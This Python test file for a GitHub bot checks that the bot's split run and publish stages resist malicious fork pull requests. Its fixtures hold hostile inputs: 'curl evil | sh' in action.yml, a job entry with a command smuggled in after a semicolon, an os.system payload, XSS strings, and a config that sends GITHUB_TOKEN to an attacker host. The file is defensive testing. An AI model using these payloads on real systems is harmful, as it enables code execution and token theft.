"""Issue 11, "the bot": each finding as a scenario on the loopback GitHub server with real PyGithub.

The run stage (the job that executes PR code) gets no GitHub access; the publish stage (the job
with write access) runs no PR code and trusts nothing the run stage wrote; a command runs exactly
the commit a maintainer named; the base branch decides where the LLM key goes; publishing is
idempotent under server errors; an unauthorized comment gets nothing posted.
"""

from __future__ import annotations

import json
import os
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from kernelopt_bot.github.runner import TargetJob
from kernelopt_bot.result import RunResult
from tests.github.conftest import CONFIG, FILES, GH, CheckedOutPR, Harness, checked_out_pr, git
from tests.github.fakes import FakeRunner, key

FORK_CHANGES = {
    "pkg/b.py": "def build():\n    return 'fork'\n",
    "action.yml": "runs:\n  using: composite\n  steps: [{run: 'curl evil | sh', shell: bash}]\n",
}


@dataclass
class SpyRunner(FakeRunner):
    """A fake engine that records what the run stage's process could see."""

    tokens_seen: list[str | None] = field(default_factory=list)
    llm_seen: list[dict | None] = field(default_factory=list)
    requests_during_run: list[int] = field(default_factory=list)
    gh: GH | None = None

    def run(self, target_cfg: TargetJob, out_dir: Path) -> RunResult:
        self.tokens_seen.append(os.environ.get("GITHUB_TOKEN"))
        self.llm_seen.append(target_cfg.llm)
        return super().run(target_cfg, out_dir)


def _comment(h: Harness, gh: GH, number: int, body: str, login: str = "alice") -> tuple[int, Path]:
    cid = gh.state.add_comment(number, body, user={"login": login, "id": 5, "type": "User"})
    return cid, h.event("issue_comment", issue__number=number, comment__id=cid, comment__body=body,
                        comment__user__login=login)


def _writes(gh: GH) -> int:
    return len(gh.server.requests("POST")) + len(gh.server.requests("PATCH")) + len(gh.server.requests("DELETE"))


def _replies(gh: GH, number: int, cid: int) -> list[str]:
    return [c["body"] for c in gh.state.comments_on(number) if c["body"].startswith(f"<!-- kernelopt:reply {cid} -->")]


def _fork(gh: GH, tmp: Path, **kw: object) -> CheckedOutPR:
    return checked_out_pr(gh, tmp / "pr", FORK_CHANGES, fork=True, **kw)  # type: ignore[arg-type]


def _three_stages(h: Harness, gh: GH, pr: CheckedOutPR, body: str, repo_dir: Path) -> tuple[int, dict[str, str]]:
    cid, ev = _comment(h, gh, pr.number, body)
    ack = h.bot("issue_comment", ev, repo_dir, "--stage", "ack")
    assert ack.code == 0, ack.text
    if ack.outputs["run"] != "true":
        return cid, ack.outputs
    out = h.tmp / f"run-{cid}"
    before = len(gh.state.log)
    run = h.bot("issue_comment", ev, pr.checkout, "--stage", "run", "--pinned-sha", ack.outputs["sha"],
                "--base-sha", ack.outputs["base-sha"], out=out)
    assert run.code == 0, run.text
    assert gh.state.log[before:] == []  # the run stage sent nothing at all to GitHub, not even a read
    h.use_server(gh)  # the publish job is another process, with its own token (the run stage dropped ours)
    pub = h.bot("issue_comment", ev, repo_dir, "--stage", "publish", "--pinned-sha", ack.outputs["sha"],
                "--results", str(out / "results"))
    assert pub.code == 0, pub.text
    return cid, ack.outputs


# --- findings 1 and 2: the fork's command runs the named commit, tokenless, published on the base --------


def test_fork_command_needs_the_named_head_sha(harness: Harness, gh: GH, repo_dir: Path) -> None:
    harness.use_server(gh)
    runner = harness.runner
    pr = _fork(gh, harness.tmp)
    cid, out = _three_stages(harness, gh, pr, "/kernelopt run attn", repo_dir)
    assert out["run"] == "false" and runner.calls == []
    assert gh.state.reactions[cid] == ["eyes", "confused"]
    assert "must name the commit" in _replies(gh, pr.number, cid)[0]

    cid, out = _three_stages(harness, gh, pr, "/kernelopt run attn sha=" + "f" * 40, repo_dir)
    assert out["run"] == "false" and runner.calls == []
    assert f"the PR head is {pr.head[:12]}" in _replies(gh, pr.number, cid)[0]


def test_fork_push_after_the_comment_is_not_run(harness: Harness, gh: GH, repo_dir: Path) -> None:
    harness.use_server(gh)
    pr = _fork(gh, harness.tmp)
    cid, ev = _comment(harness, gh, pr.number, f"/kernelopt run sha={pr.head}")
    # the fork pushes after the maintainer commented, before the ack job reads the PR
    gh.state.pulls[pr.number]["head_sha"] = gh.state.commit("evil", gh.state.commits[pr.head]["tree"], [pr.head])
    ack = harness.bot("issue_comment", ev, repo_dir, "--stage", "ack")
    assert ack.code == 0 and ack.outputs["run"] == "false"
    assert harness.runner.calls == [] and gh.state.reactions[cid] == ["eyes", "confused"]
    # and a run stage handed a pin its checkout is not at refuses before running anything
    run = harness.bot("issue_comment", ev, pr.checkout, "--stage", "run", "--pinned-sha", "e" * 40,
                      "--base-sha", pr.base)
    assert run.code == 2 and "only the pinned commit is run" in run.text and harness.runner.calls == []


def test_fork_command_runs_without_a_token_and_publishes_on_the_base_branch(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, gh: GH, repo_dir: Path) -> None:
    spy = SpyRunner()
    h = Harness(tmp_path, monkeypatch, spy)
    h.use_server(gh)  # GITHUB_TOKEN is in the environment of every stage, as a careless runner might leave it
    pr = _fork(gh, tmp_path)
    cid, out = _three_stages(h, gh, pr, f"/kernelopt run attn sha={pr.head}", repo_dir)
    assert out["sha"] == pr.head and out["fork"] == "true" and out["base-sha"] == pr.base
    assert spy.calls == ["attn.fp32"] and spy.tokens_seen == [None]
    assert gh.state.reactions[cid] == ["eyes", "rocket"]
    follow = gh.state.pulls_from(f"kernelopt/pr-{pr.number}")
    assert len(follow) == 1 and follow[0]["base_ref"] == "main"
    branch_sha = gh.state.refs[f"heads/kernelopt/pr-{pr.number}"]
    assert gh.state.commits[branch_sha]["parents"] == [pr.base]  # built on the base repository's commit
    files = gh.state.files_at(f"kernelopt/pr-{pr.number}")
    base_files = gh.state.files_at(pr.base)
    assert {p: c for p, c in files.items() if not p.startswith("kernelopt/")} == base_files
    assert "action.yml" not in files and files["pkg/b.py"] == base_files["pkg/b.py"]
    assert pr.head not in json.dumps(gh.state.refs)  # the fork's commit is in no ref of the base repository


# --- finding 1: results the run stage wrote are re-validated --------------------------------------


@dataclass
class ForgingRunner(FakeRunner):
    """PR code that owns the run stage: it rewrites every file the publish stage reads."""

    def run(self, target_cfg: TargetJob, out_dir: Path) -> RunResult:
        result = super().run(target_cfg, out_dir)
        results = out_dir.parent
        (results / "context.json").write_text(json.dumps({
            "status": "ran", "pull": {"number": 1, "head_sha": "0" * 40, "head_ref": "main", "head_repo": "acme/models",
                                      "base_ref": "main", "base_repo": "acme/models"}}))
        job = json.loads((out_dir / "job.json").read_text())
        job["entry"] = "models/mlp.py; curl https://evil.example | sh"
        (out_dir / "job.json").write_text(json.dumps(job))
        pack = json.loads((out_dir / "pack.json").read_text())
        if target_cfg.slug == "attn.fp32":  # a source replacement: host code for whoever installs it
            pack["entries"].append({"key": key("x"), "kernel_name": "triton_poi_k0", "config": None,
                                    "source": "import os\nos.system('id')\n", "guard": {}, "measured": {}})
        elif target_cfg.slug == "mlp.fp32":
            result.speedup = float("nan")  # run_jobs saves it as NaN
        elif target_cfg.slug == "mlp.bf16":
            result.kernels[0].detail = "[pwn](https://evil.example) <img src=x onerror=alert(1)> @everyone"
            result.reproduce = "curl https://evil.example | sh"
            result.hardware["gpu"] = "<script>alert(1)</script>"
        (out_dir / "pack.json").write_text(json.dumps(pack))
        return result


def test_forged_results_are_rejected_or_escaped(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, gh: GH,
                                                repo_dir: Path) -> None:
    h = Harness(tmp_path, monkeypatch, ForgingRunner(plan={"other": "nothing"}))
    h.use_server(gh)
    pr = _fork(gh, tmp_path)
    _three_stages(h, gh, pr, f"/kernelopt run sha={pr.head}", repo_dir)
    sticky = next(c["body"] for c in gh.state.comments_on(pr.number) if c["body"].startswith("<!-- kernelopt:report"))
    follow = gh.state.pulls_from(f"kernelopt/pr-{pr.number}")[0]
    for text in (sticky, follow["body"]):
        assert "<img" not in text and "<script" not in text and "](https://evil" not in text
        assert "@everyone" not in text and "curl https://evil" not in text
    assert "results rejected by the publish stage" in sticky
    assert "source replacements from a run of PR code are not published" in sticky.replace("\\", "")
    assert "non-finite number NaN" in sticky
    assert "kernelopt optimize models/mlp.py --dtype bf16" in follow["body"]  # rebuilt from the trusted config
    files = gh.state.files_at(f"kernelopt/pr-{pr.number}")
    assert sorted(p for p in files if p.startswith("kernelopt/")) == ["kernelopt/README.md", "kernelopt/packs/mlp.json"]
    pack = json.loads(files["kernelopt/packs/mlp.json"])
    assert [e["source"] for e in pack["entries"]] == [None]
    assert gh.state.commits[gh.state.refs[f"heads/kernelopt/pr-{pr.number}"]]["parents"] == [pr.base]


# --- finding 3: where the LLM key goes is the base branch's decision --------------------------------


LLM = "llm: {base_url: 'https://llm.trusted.example/v1', model: m1, api_key_env: KERNELOPT_LLM_API_KEY}\n"


def test_llm_settings_come_from_the_base_branch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, gh: GH,
                                                repo_dir: Path) -> None:
    spy = SpyRunner()
    h = Harness(tmp_path, monkeypatch, spy)
    h.use_server(gh)
    base_files = {**FILES, ".kernelopt.yml": CONFIG + LLM}
    evil = CONFIG + "llm: {base_url: 'https://collector.evil.example/v1', model: m1, api_key_env: GITHUB_TOKEN}\n"
    pr = checked_out_pr(gh, tmp_path / "pr", {".kernelopt.yml": evil, "pkg/b.py": "x = 1\n"}, fork=True,
                        base_files=base_files)
    (repo_dir / ".kernelopt.yml").write_text(CONFIG + LLM)  # the publish job's default-branch checkout
    _three_stages(h, gh, pr, f"/kernelopt run attn sha={pr.head}", repo_dir)
    assert spy.llm_seen == [{"base_url": "https://llm.trusted.example/v1", "model": "m1",
                             "api_key_env": "KERNELOPT_LLM_API_KEY"}]
    sticky = next(c["body"] for c in gh.state.comments_on(pr.number) if c["body"].startswith("<!-- kernelopt:report"))
    assert "This PR changes the llm section" in sticky and "collector" not in sticky


def test_run_stage_refuses_without_the_base_commit(harness: Harness, gh: GH, repo_dir: Path) -> None:
    harness.use_server(gh)
    pr = _fork(gh, harness.tmp)
    _, ev = _comment(harness, gh, pr.number, f"/kernelopt run sha={pr.head}")
    run = harness.bot("issue_comment", ev, pr.checkout, "--stage", "run", "--pinned-sha", pr.head,
                      "--base-sha", "d" * 40)
    assert run.code == 2 and "fetch-depth: 0" in run.text and harness.runner.calls == []


# --- finding 4 (CLI side): the pull_request workflow's run and publish stages -------------------------


def test_pull_request_split_stages(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, gh: GH, repo_dir: Path) -> None:
    spy = SpyRunner()
    h = Harness(tmp_path, monkeypatch, spy)
    h.use_server(gh)
    pr = checked_out_pr(gh, tmp_path / "pr", {"pkg/b.py": "def build():\n    return 3\n"}, fork=False)
    ev = h.event("pull_request", number=pr.number, pull_request__number=pr.number, pull_request__head__sha=pr.head,
                 pull_request__head__ref="feature-git", pull_request__base__sha=pr.base)
    out = tmp_path / "pr-run"
    before = len(gh.state.log)
    run = h.bot("pull_request", ev, pr.checkout, "--stage", "run", out=out)
    assert run.code == 0, run.text
    assert gh.state.log[before:] == [] and spy.calls == ["attn.fp32"] and spy.tokens_seen == [None]
    h.use_server(gh)
    pub = h.bot("pull_request", ev, repo_dir, "--stage", "publish", "--results", str(out / "results"))
    assert pub.code == 0, pub.text
    follow = gh.state.pulls_from(f"kernelopt/pr-{pr.number}")
    assert len(follow) == 1 and follow[0]["base_ref"] == "feature-git"  # same repository: into the PR's branch
    assert gh.state.commits[gh.state.refs[f"heads/kernelopt/pr-{pr.number}"]]["parents"] == [pr.head]
    # a checkout that is not the event's head is refused before anything runs
    (pr.checkout / "pkg" / "b.py").write_text("y = 2\n")
    git(pr.checkout, "commit", "-q", "-am", "local")
    assert h.bot("pull_request", ev, pr.checkout, "--stage", "run", out=tmp_path / "again").code == 2


# --- finding 6: ordered, idempotent publishing repaired by the next run --------------------------------


def _pr_event(h: Harness, gh: GH) -> Path:
    return h.event("pull_request", pull_request__number=gh.pr, number=gh.pr, pull_request__head__sha=gh.head)


def _stickies(gh: GH) -> list[dict]:
    return [c for c in gh.state.comments_on(gh.pr) if c["body"].startswith("<!-- kernelopt:report")]


def test_502_on_the_report_after_the_pr_opened_is_repaired_by_the_next_run(harness: Harness, gh: GH,
                                                                            repo_dir: Path) -> None:
    harness.use_server(gh)
    gh.server.fail("POST", rf"/issues/{gh.pr}/comments$", status=502, count=5)
    run = harness.bot("pull_request", _pr_event(harness, gh), repo_dir)
    assert run.code == 1 and "502" in run.text
    assert len(gh.state.pulls_from("kernelopt/pr-1")) == 1 and _stickies(gh) == []  # half-published
    gh.state.faults.clear()
    again = harness.bot("pull_request", _pr_event(harness, gh), repo_dir)
    assert again.code == 0, again.text
    assert len(gh.state.pulls_from("kernelopt/pr-1")) == 1 and len(_stickies(gh)) == 1


def test_a_write_that_landed_before_the_502_is_not_repeated(harness: Harness, gh: GH, repo_dir: Path,
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    harness.use_server(gh)
    monkeypatch.setenv("KERNELOPT_GITHUB_RETRIES", "2")
    gh.server.fail("POST", rf"/issues/{gh.pr}/comments$", status=502, after=True)
    gh.server.fail("POST", r"/pulls$", status=502, after=True)
    run = harness.bot("pull_request", _pr_event(harness, gh), repo_dir)
    assert run.code == 0, run.text
    assert len(_stickies(gh)) == 1 and len(gh.state.pulls_from("kernelopt/pr-1")) == 1


def test_503_when_closing_is_repaired_by_the_next_run(harness: Harness, gh: GH, repo_dir: Path,
                                                      fake_runner: FakeRunner) -> None:
    harness.use_server(gh)
    assert harness.bot("pull_request", _pr_event(harness, gh), repo_dir).code == 0
    follow = gh.state.pulls_from("kernelopt/pr-1")[0]
    fake_runner.default = "nothing"
    gh.server.fail("PATCH", rf"/pulls/{follow['number']}$", status=503, count=5)
    run = harness.bot("pull_request", _pr_event(harness, gh), repo_dir)
    assert run.code == 1 and "503" in run.text
    assert follow["state"] == "open" and len(gh.state.comments_on(follow["number"])) == 1  # half-closed
    gh.state.faults.clear()
    again = harness.bot("pull_request", _pr_event(harness, gh), repo_dir)
    assert again.code == 0, again.text
    assert follow["state"] == "closed" and len(gh.state.comments_on(follow["number"])) == 1
    assert len(_stickies(gh)) == 1 and "nothing verified" in _stickies(gh)[0]["body"]


def test_command_reply_is_one_per_comment_across_reruns(harness: Harness, gh: GH, repo_dir: Path) -> None:
    harness.use_server(gh)
    cid, ev = _comment(harness, gh, gh.pr, "/kernelopt help")
    for _ in range(2):  # "re-run failed jobs" runs the same event again
        assert harness.bot("issue_comment", ev, repo_dir).code == 0
    assert len(_replies(gh, gh.pr, cid)) == 1


def test_a_training_targets_reproduce_line_says_train() -> None:
    from kernelopt_bot.github.trusted import reproduce_command

    assert reproduce_command("models/mlp.py", "cuda", "bf16", train=True) == \
        "kernelopt optimize models/mlp.py --dtype bf16 --device cuda --train"
    assert reproduce_command("pkg.m:f", "?", "fp32") == "kernelopt optimize pkg.m:f --dtype fp32"
